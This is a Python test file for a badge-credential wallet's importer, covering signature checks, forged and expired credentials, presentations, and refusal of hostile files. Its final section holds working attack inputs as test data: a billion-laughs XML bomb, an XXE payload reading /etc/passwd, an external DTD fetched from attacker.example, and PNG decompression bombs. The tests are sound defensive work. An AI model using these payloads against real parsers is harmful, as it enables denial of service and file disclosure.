"""Import: the 1EdTech baked samples, JSON, presentations, VC-JWT, legacy OB 2.0 (with keys and
documents handed in), and hostile inputs (XML bombs, PNG bombs, malformed chunks)."""

from __future__ import annotations

import base64
import json
import struct
import time
import zlib
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import padding, rsa

from protocol.keys import KeyPair
from protocol.presentation import build_presentation
from tests.wallet.conftest import BAKED, NOW, Issuer
from wallet.baking import MAX_BAKED_TEXT_BYTES, MAX_IMAGE_BYTES
from wallet.errors import ImportRefused
from wallet.importing import Materials, extract, import_bytes, import_files, reverify
from wallet.store import Wallet

ISSUER_876543 = "https://example.com/issuers/876543"
KEY_876543 = "z6MkrvfzkMnvCroEUP2DVc9SHPE48CRsvHiVSusHioxTYu1x"


def b64(data: bytes) -> str:
    return base64.urlsafe_b64encode(data).rstrip(b"=").decode("ascii")


def jws(header: dict[str, Any], payload: dict[str, Any], sign: Any) -> str:
    head = b64(json.dumps(header).encode())
    body = b64(json.dumps(payload).encode())
    return f"{head}.{body}.{b64(sign(f'{head}.{body}'.encode()))}"


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png(*extra: bytes, width: int = 1, height: int = 1, idat: bytes | None = None) -> bytes:
    ihdr = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = idat if idat is not None else zlib.compress(b"\x00\x00" * height)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", ihdr)
        + b"".join(extra)
        + chunk(b"IDAT", pixels)
        + chunk(b"IEND", b"")
    )


def itxt(keyword: str, text: bytes, *, compressed: bool = False) -> bytes:
    body = zlib.compress(text, 9) if compressed else text
    flag = b"\x01" if compressed else b"\x00"
    return chunk(b"iTXt", keyword.encode() + b"\x00" + flag + b"\x00\x00\x00" + body)


# -- the 1EdTech baked samples -----------------------------------------------------------------


def test_every_baked_sample_imports(wallet: Wallet) -> None:
    files = sorted(p for p in BAKED.rglob("*") if p.suffix in (".png", ".svg", ".jwt"))
    assert len(files) == 9
    outcomes = import_files(wallet, files, now=NOW)
    refused = [o for o in outcomes if o.outcome == "refused"]
    assert refused == []
    by_source = {Path(o.source).relative_to(BAKED).as_posix(): o for o in outcomes}
    json_png = by_source["ob30/simple-json.png"].record
    assert json_png is not None and json_png.kind == "ob3" and json_png.format == "json"
    assert by_source["ob30/simple-json.svg"].outcome == "duplicate"
    assert by_source["ob30/simple-json.svg"].record.local_id == json_png.local_id  # type: ignore[union-attr]
    jwt_png = by_source["ob30/simple-jwt.png"].record
    assert jwt_png is not None and jwt_png.format == "jwt" and jwt_png.kind == "ob3"
    assert by_source["ob30/simple-jwt.svg"].record.local_id == jwt_png.local_id  # type: ignore[union-attr]
    legacy = by_source["ob20/simple-badge.png"].record
    assert legacy is not None and legacy.kind == "ob2"
    assert legacy.legacy and legacy.legacy["verification"] == "hosted"
    assert {o.record.kind for o in outcomes if o.record} == {"ob3", "ob2"}


def test_ob3_sample_offline_is_unknown_then_valid_with_its_controller_document(
    wallet: Wallet,
) -> None:
    [outcome] = import_bytes(
        wallet, (BAKED / "ob30/simple-json.svg").read_bytes(), source="s.svg", now=NOW
    )
    record = outcome.record
    assert record is not None and record.status == "unknown"
    assert "not available offline" in record.verification["walletNote"]
    assert record.verification["verdict"] == "invalid"  # the protocol report, verbatim
    document = {
        "@context": ["https://www.w3.org/ns/did/v1", "https://w3id.org/security/multikey/v1"],
        "id": ISSUER_876543,
        "verificationMethod": [
            {
                "id": f"{ISSUER_876543}#{KEY_876543}",
                "type": "Multikey",
                "controller": ISSUER_876543,
                "publicKeyMultibase": KEY_876543,
            }
        ],
        "assertionMethod": [f"{ISSUER_876543}#{KEY_876543}"],
    }
    reverify(wallet, record, now=NOW, materials=Materials(did_documents={ISSUER_876543: document}))
    assert record.status == "valid"
    assert record.verification["verified"] is True


def test_ob3_jwt_sample_signature_checks_with_the_header_key(wallet: Wallet) -> None:
    [outcome] = import_bytes(
        wallet, (BAKED / "ob30/simple-jwt.svg").read_bytes(), source="s.svg", now=NOW
    )
    record = outcome.record
    assert record is not None
    checks = {c["check"]: c for c in record.verification["checks"]}
    assert checks["jws RS256"]["status"] == "pass"
    assert checks["jws RS256 issuer"]["status"] == "unknown"
    assert checks["schema"]["status"] == "pass"
    assert record.status == "unknown"
    assert record.document["issuer"]["id"] == "https://1edtech.edu/issuers/565049"


def test_vc11_jwt_sample_is_kept_and_reported(wallet: Wallet) -> None:
    [outcome] = import_bytes(
        wallet, (BAKED / "ob30/simple.jwt").read_bytes(), source="simple.jwt", now=NOW
    )
    record = outcome.record
    assert record is not None and record.format == "jwt"
    checks = {c["check"]: c for c in record.verification["checks"]}
    assert checks["schema"]["status"] == "fail"
    assert "VC 1.1" in checks["schema"]["reason"]
    assert checks["jws RS256"]["status"] == "unknown"
    assert record.status == "invalid"


# -- legacy Open Badges 2.0 --------------------------------------------------------------------


def _ob2_materials(*names: str) -> Materials:
    materials = Materials()
    for name in names:
        materials.add_file(BAKED / "ob20" / name)
    return materials


def test_ob2_signed_assertion_with_its_key_file(wallet: Wallet) -> None:
    materials = _ob2_materials("key1.json")
    [outcome] = import_bytes(
        wallet,
        (BAKED / "ob20/simple.jwt").read_bytes(),
        source="a.jwt",
        now=NOW,
        materials=materials,
    )
    record = outcome.record
    assert record is not None and record.kind == "ob2" and record.status == "unknown"
    checks = {c["check"]: c for c in record.verification["checks"]}
    assert checks["signature RS256"]["status"] == "pass"
    assert "key1.json" in checks["signature RS256"]["reason"]
    assert checks["revocation"]["status"] == "unknown"
    assert record.verification["kind"] == "legacy"
    assert any("revocation" in line for line in record.legacy["notChecked"])  # type: ignore[index]
    assert any("signature" in line for line in record.legacy["checked"])  # type: ignore[index]


def test_ob2_signed_by_another_key_is_not_checked_and_a_forgery_fails(wallet: Wallet) -> None:
    materials = _ob2_materials("key1.json")
    [revoked] = import_bytes(
        wallet,
        (BAKED / "ob20/simple-revoked.jwt").read_bytes(),
        source="r.jwt",
        now=NOW,
        materials=materials,
    )
    checks = {c["check"]: c for c in revoked.record.verification["checks"]}  # type: ignore[union-attr]
    assert checks["signature RS256"]["status"] == "unknown"
    assert "key3.json" in checks["signature RS256"]["reason"]
    head, body, sig = (BAKED / "ob20/simple.jwt").read_text().strip().split(".")
    payload = json.loads(base64.urlsafe_b64decode(body + "=="))
    payload["evidence"] = "https://example.org/forged.html"
    forged = f"{head}.{b64(json.dumps(payload).encode())}.{sig}"
    [outcome] = import_bytes(wallet, forged.encode(), source="f.jwt", now=NOW, materials=materials)
    assert outcome.record is not None and outcome.record.status == "invalid"
    checks = {c["check"]: c for c in outcome.record.verification["checks"]}
    assert checks["signature RS256"] == {
        "check": "signature RS256",
        "status": "fail",
        "reason": "the JWS signature does not verify",
    }


def test_ob2_badge_class_and_issuer_handed_in(wallet: Wallet, tmp_path: Path) -> None:
    private = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    pem = private.public_key().public_bytes(
        serialization.Encoding.PEM, serialization.PublicFormat.SubjectPublicKeyInfo
    )
    key_file = tmp_path / "key.json"
    key_file.write_text(
        json.dumps(
            {
                "@context": "https://w3id.org/openbadges/v2",
                "id": "http://example.org/mykey.json",
                "type": "CryptographicKey",
                "owner": "http://example.org/issuer1.json",
                "publicKeyPem": pem.decode(),
            }
        )
    )
    assertion = {
        "@context": "https://w3id.org/openbadges/v2",
        "type": "Assertion",
        "id": "https://example.org/assertions/42",
        "recipient": {"type": "email", "hashed": False, "identity": "earner@example.org"},
        "issuedOn": "2020-01-01T00:00:00Z",
        "expires": "2030-01-01T00:00:00Z",
        "badge": "http://example.org/badgeclass1",
        "verification": {"type": "SignedBadge", "creator": "http://example.org/mykey.json"},
    }
    token = jws(
        {"alg": "RS256"},
        assertion,
        lambda data: private.sign(data, padding.PKCS1v15(), hashes.SHA256()),
    )
    materials = _ob2_materials("badgeclass1.json", "issuer1.json")
    assert materials.add_file(key_file) == "key"
    [outcome] = import_bytes(
        wallet, token.encode(), source="mine.jwt", now=NOW, materials=materials
    )
    record = outcome.record
    assert record is not None
    checks = {c["check"]: c["status"] for c in record.verification["checks"]}
    assert checks == {
        "format": "pass",
        "badge class": "pass",
        "issuer profile": "pass",
        "signature RS256": "pass",
        "revocation": "unknown",
        "expiry": "pass",
    }
    assert record.summary["name"] == "Example Badge"
    assert record.summary["issuer_name"] == "Example Issuer"
    assert record.status == "unknown"  # revocation cannot be checked offline
    expired = import_bytes(
        wallet,
        token.encode(),
        source="later.jwt",
        now=NOW.replace(year=2031),
        materials=materials,
    )
    assert expired[0].outcome == "duplicate"
    reverify(wallet, record, now=NOW.replace(year=2031), materials=materials)
    assert record.status == "invalid"


def test_ob2_documents_that_are_not_assertions_are_refused_with_a_hint(wallet: Wallet) -> None:
    with pytest.raises(ImportRefused, match="a BadgeClass document, not a credential"):
        import_bytes(wallet, (BAKED / "ob20/badgeclass1.json").read_bytes(), source="b", now=NOW)
    with pytest.raises(ImportRefused, match="CryptographicKey document"):
        import_bytes(wallet, (BAKED / "ob20/key1.json").read_bytes(), source="k", now=NOW)


# -- JSON, presentations, VC-JWT ---------------------------------------------------------------


def test_json_credential_is_verified_and_stored(wallet: Wallet, issuer: Issuer) -> None:
    credential = issuer.credential(name="Welding")
    text = json.dumps(credential, indent=2)
    [outcome] = import_bytes(wallet, text.encode(), source="w.json", now=NOW)
    assert outcome.outcome == "added"
    record = outcome.record
    assert record is not None and record.status == "valid" and record.text == text
    assert record.verification["verified"] is True
    tampered = dict(credential, name="Welding master")
    [bad] = import_bytes(wallet, json.dumps(tampered).encode(), source="t.json", now=NOW)
    assert bad.outcome == "duplicate"  # same issuer and id, same validFrom: the first stays
    other = Wallet.create(wallet.path.with_name("other.ppw"), "x", kdf=wallet.kdf)
    [bad] = import_bytes(other, json.dumps(tampered).encode(), source="t.json", now=NOW)
    assert bad.record is not None and bad.record.status == "invalid"
    other.close()


def test_expired_credential_is_invalid(wallet: Wallet, issuer: Issuer) -> None:
    credential = issuer.credential(valid_until=NOW - timedelta(days=1))
    [outcome] = import_bytes(wallet, json.dumps(credential).encode(), source="e.json", now=NOW)
    assert outcome.record is not None and outcome.record.status == "invalid"


def test_presentation_credentials_are_imported(
    wallet: Wallet, issuer: Issuer, make_issuer: type[Issuer]
) -> None:
    other = make_issuer("Other School")
    first, second = issuer.credential(name="One"), other.credential(name="Two")
    third = issuer.credential(name="Three")
    token = jws(
        {"alg": "EdDSA", "kid": issuer.key.id},
        dict(third, iss=issuer.did, jti=third["id"]),
        issuer.key.sign,
    )
    presentation = build_presentation(holder="did:example:earner", credentials=[first, second])
    presentation["verifiableCredential"].append(
        {
            "@context": ["https://www.w3.org/ns/credentials/v2"],
            "type": ["EnvelopedVerifiableCredential"],
            "id": f"data:application/vc+jwt,{token}",
        }
    )
    outcomes = import_bytes(wallet, json.dumps(presentation).encode(), source="vp.json", now=NOW)
    assert [o.outcome for o in outcomes] == ["added"] * 3
    assert [o.record.name for o in outcomes] == ["One", "Two", "Three"]  # type: ignore[union-attr]
    assert all(o.record.status == "valid" for o in outcomes)  # type: ignore[union-attr]
    vp_jwt = jws({"alg": "EdDSA"}, {"vp": presentation}, issuer.key.sign)
    again = import_bytes(wallet, vp_jwt.encode(), source="vp.jwt", now=NOW)
    assert [o.outcome for o in again] == ["duplicate"] * 3


def test_vc_jwt_with_did_key(wallet: Wallet, issuer: Issuer, make_issuer: type[Issuer]) -> None:
    credential = issuer.credential(name="JWT badge")
    credential.pop("proof")
    claims = dict(credential, iss=issuer.did, jti=credential["id"], nbf=int(NOW.timestamp()) - 60)
    token = jws({"alg": "EdDSA", "kid": issuer.key.id, "typ": "JWT"}, claims, issuer.key.sign)
    [outcome] = import_bytes(wallet, token.encode(), source="c.jwt", now=NOW)
    record = outcome.record
    assert record is not None and record.format == "jwt" and record.text == token
    assert record.status == "valid", record.verification
    assert record.document["name"] == "JWT badge"
    # Signed by someone else's did:key: the signature is fine, the issuer binding is not.
    impostor = make_issuer("Impostor")
    wrong = jws({"alg": "EdDSA", "kid": impostor.key.id}, claims, impostor.key.sign)
    other = Wallet.create(wallet.path.with_name("o.ppw"), "x", kdf=wallet.kdf)
    [outcome] = import_bytes(other, wrong.encode(), source="w.jwt", now=NOW)
    checks = {c["check"]: c["status"] for c in outcome.record.verification["checks"]}  # type: ignore[union-attr]
    assert checks["jws EdDSA"] == "pass" and checks["jws EdDSA issuer"] == "fail"
    # A flipped signature fails.
    head, body, sig = token.split(".")
    raw = bytearray(base64.urlsafe_b64decode(sig + "=="))
    raw[0] ^= 1
    flipped = f"{head}.{body}.{b64(bytes(raw))}"
    other.remove(outcome.record.local_id)  # type: ignore[union-attr]
    [outcome] = import_bytes(other, flipped.encode(), source="f.jwt", now=NOW)
    checks = {c["check"]: c for c in outcome.record.verification["checks"]}  # type: ignore[union-attr]
    assert checks["jws EdDSA"]["status"] == "fail"
    assert outcome.record.status == "invalid"  # type: ignore[union-attr]
    other.close()


def test_vc_jwt_es256_with_p256_did_key(wallet: Wallet, make_issuer: type[Issuer]) -> None:
    p256 = make_issuer("P-256 School", algorithm="P-256")
    key: KeyPair = p256.key
    credential = p256.credential()
    credential.pop("proof")
    token = jws({"alg": "ES256", "kid": key.id}, dict(credential, iss=p256.did), key.sign)
    [outcome] = import_bytes(wallet, token.encode(), source="p.jwt", now=NOW)
    assert outcome.record is not None and outcome.record.status == "valid"


def test_json_array_and_folder_import(wallet: Wallet, issuer: Issuer, tmp_path: Path) -> None:
    folder = tmp_path / "inbox"
    folder.mkdir()
    (folder / "all.json").write_text(json.dumps([issuer.credential(), issuer.credential()]))
    (folder / "bad.json").write_text('{"not": "a credential"}')
    (folder / "notes.txt").write_text("ignored")
    from wallet.importing import iter_paths

    paths = iter_paths([str(folder)])
    assert [Path(p).name for p in paths] == ["all.json", "bad.json"]
    outcomes = import_files(wallet, paths, now=NOW)
    assert [o.outcome for o in outcomes] == ["added", "added", "refused"]
    assert "neither a credential nor a presentation" in outcomes[2].message


def test_embedded_endorsements_are_verified(
    wallet: Wallet, issuer: Issuer, make_issuer: type[Issuer]
) -> None:
    from protocol.di import sign
    from protocol.ob import build_endorsement

    endorser = make_issuer("Guild")
    unsigned_endorsement = build_endorsement(
        issuer={"id": endorser.did, "type": ["Profile"], "name": "Guild"},
        subject_id="https://academy.example/achievements/x",
        credential_id="urn:uuid:endorsement-1",
        valid_from=NOW - timedelta(days=2),
        name="Guild endorsement",
    )
    endorsement = sign(unsigned_endorsement, key=endorser.key, created=NOW - timedelta(days=2))
    credential = issuer.credential(achievement_id="https://academy.example/achievements/x")
    credential.pop("proof")
    credential["endorsement"] = [endorsement]
    signed = sign(credential, key=issuer.key, created=NOW - timedelta(days=1))
    [outcome] = import_bytes(wallet, json.dumps(signed).encode(), source="e.json", now=NOW)
    record = outcome.record
    assert record is not None and record.status == "valid"
    assert [r["verdict"] for r in record.verification["endorsements"]] == ["valid"]


# -- hostile inputs ----------------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol9 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&lol9;</openbadges:credential></svg>"""

EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:openbadges="https://purl.imsglobal.org/ob/v3p0">
<openbadges:credential>&xxe;</openbadges:credential></svg>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY % remote SYSTEM "http://attacker.example/evil.dtd"> %remote;]>
<svg xmlns="http://www.w3.org/2000/svg"/>"""


@pytest.mark.parametrize(
    ("data", "message"),
    [
        (BILLION_LAUGHS, "SVG declares XML entities; entity expansion is refused"),
        (EXTERNAL_ENTITY, "SVG declares XML entities"),
        (PARAMETER_ENTITY, "SVG declares XML entities"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'><unclosed></svg>", "not well-formed XML"),
        (b"<html xmlns='http://www.w3.org/1999/xhtml'/>", "not an SVG image"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'/>", "no Open Badges credential is baked"),
    ],
    ids=["billion-laughs", "external-entity", "parameter-entity", "malformed", "html", "empty"],
)
def test_hostile_or_empty_svg_is_refused(wallet: Wallet, data: bytes, message: str) -> None:
    started = time.perf_counter()
    with pytest.raises(ImportRefused, match=message):
        import_bytes(wallet, data, source="evil.svg", now=NOW)
    assert time.perf_counter() - started < 5  # refused, not expanded
    assert len(wallet) == 0


def test_huge_svg_is_refused_before_parsing(wallet: Wallet) -> None:
    data = b"<svg xmlns='http://www.w3.org/2000/svg'>" + b" " * MAX_IMAGE_BYTES + b"</svg>"
    with pytest.raises(ImportRefused, match="SVG is larger than"):
        import_bytes(wallet, data, source="huge.svg", now=NOW)


def test_png_text_bomb_is_refused(wallet: Wallet) -> None:
    bomb = itxt("openbadgecredential", b"{" + b" " * (MAX_BAKED_TEXT_BYTES + 10), compressed=True)
    assert len(bomb) < 10_000  # a few kilobytes that inflate to megabytes
    with pytest.raises(ImportRefused, match=r"inflates beyond 4194304 bytes .*decompression bomb"):
        import_bytes(wallet, png(bomb), source="bomb.png", now=NOW)
    ztxt = chunk(b"zTXt", b"openbadges\x00\x00" + zlib.compress(b" " * (MAX_BAKED_TEXT_BYTES + 1)))
    with pytest.raises(ImportRefused, match="zTXt 'openbadges': compressed text inflates beyond"):
        import_bytes(wallet, png(ztxt), source="bomb2.png", now=NOW)


def test_idat_bomb_is_never_decoded(wallet: Wallet, issuer: Issuer) -> None:
    # A 100,000 x 100,000 image whose IDAT inflates to gigabytes: pixels are never decoded.
    idat = zlib.compress(b"\x00" * (8 * 1024 * 1024), 9)
    huge = png(width=100_000, height=100_000, idat=idat)
    started = time.perf_counter()
    with pytest.raises(ImportRefused, match="no Open Badges credential is baked in this PNG"):
        import_bytes(wallet, huge, source="huge.png", now=NOW)
    credential = json.dumps(issuer.credential()).encode()
    baked = png(itxt("openbadgecredential", credential), width=100_000, height=100_000, idat=idat)
    [outcome] = import_bytes(wallet, baked, source="baked-huge.png", now=NOW)
    assert outcome.record is not None and outcome.record.status == "valid"
    assert time.perf_counter() - started < 5


@pytest.mark.parametrize(
    ("mutate", "message"),
    [
        (lambda d: d[:-5], "truncated"),
        (lambda d: d[:20] + bytes([d[20] ^ 1]) + d[21:], "fails its CRC check"),
        (lambda d: d + b"trailing", "bytes after its IEND chunk"),
        (lambda d: b"\x89PNG\r\n\x1a\x0b" + d[8:], "not a PNG file"),
        (lambda d: d[:8] + chunk(b"tEXt", b"x\x00y") + d[8:], "does not start with an IHDR"),
        (
            lambda d: d[:33] + struct.pack(">I", 9 * 1024 * 1024) + b"IDAT" + d[41:],
            "more than 8388608",
        ),
        (lambda d: d[:33] + chunk(b"i1XT", b"") + d[33:], "invalid type"),
    ],
    ids=["truncated", "bad-crc", "trailing", "signature", "no-ihdr", "huge-chunk", "bad-type"],
)
def test_malformed_png_is_refused(
    wallet: Wallet, issuer: Issuer, mutate: Any, message: str
) -> None:
    good = png(itxt("openbadgecredential", json.dumps(issuer.credential()).encode()))
    assert extract(good)[0].kind == "ob3"
    with pytest.raises(ImportRefused, match=message):
        import_bytes(wallet, mutate(good), source="bad.png", now=NOW)


def test_other_garbage(wallet: Wallet) -> None:
    with pytest.raises(ImportRefused, match="not a PNG, SVG, JSON or JWS file"):
        import_bytes(wallet, bytes(range(256)), source="x", now=NOW)
    with pytest.raises(ImportRefused):
        import_bytes(wallet, b"{not json", source="x", now=NOW)
    with pytest.raises(ImportRefused, match="the JSON array is empty"):
        import_bytes(wallet, b"[]", source="x", now=NOW)
    assert extract((BAKED / "ob30/simple-json.png").read_bytes())[0].where == (
        "PNG iTXt openbadgecredential"
    )
